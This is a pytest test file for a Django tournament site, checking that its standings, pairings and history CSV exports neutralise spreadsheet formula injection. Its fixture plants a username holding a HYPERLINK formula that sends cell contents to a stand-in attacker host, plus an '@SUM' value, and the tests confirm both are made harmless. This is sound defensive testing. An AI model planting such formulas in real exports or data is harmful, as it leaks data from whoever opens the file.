"""Issue #11, item 14: no CSV export cell is read as a formula by a spreadsheet. A player named
``=HYPERLINK(...)`` (or any cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return)
comes out prefixed with ``'``; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


@pytest.fixture
def evil_event(round_one, tournament):
    from tournaments.services import result_report

    match = round_one.matches.get()
    a, b = (s.registration for s in match.seats.order_by("number"))
    User.objects.filter(pk=a.player_id).update(username=EVIL)
    User.objects.filter(pk=b.player_id).update(username="@SUM(1+1)")
    result_report(match=match, actor=a.player, games=[{"winner": "a"}, {"winner": "a"}])
    result_report(match=match, actor=b.player, games=[{"winner": "a"}, {"winner": "a"}])
    return tournament


@pytest.mark.parametrize("what", ["standings", "pairings", "history"])
def test_no_exported_cell_starts_a_formula(client: Client, evil_event, what):
    from tournaments.services import standings_recompute

    standings_recompute(tournament_id=evil_event.pk)
    response = client.get(f"/t/{evil_event.pk}/export/{what}.csv")
    assert response.status_code == 200
    cells = _cells(response)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert any(c.startswith("'=HYPERLINK(") for c in cells), cells


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-cmd", "'-cmd"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("alice", "alice"), (3, 3), (-1, -1), (0.5, 0.5), ("", ""), (None, None)])
def test_the_writer_neutralises_only_text_that_starts_a_formula(value, expected):
    from tournaments.pages.csv_export import safe_cell

    assert safe_cell(value) == expected
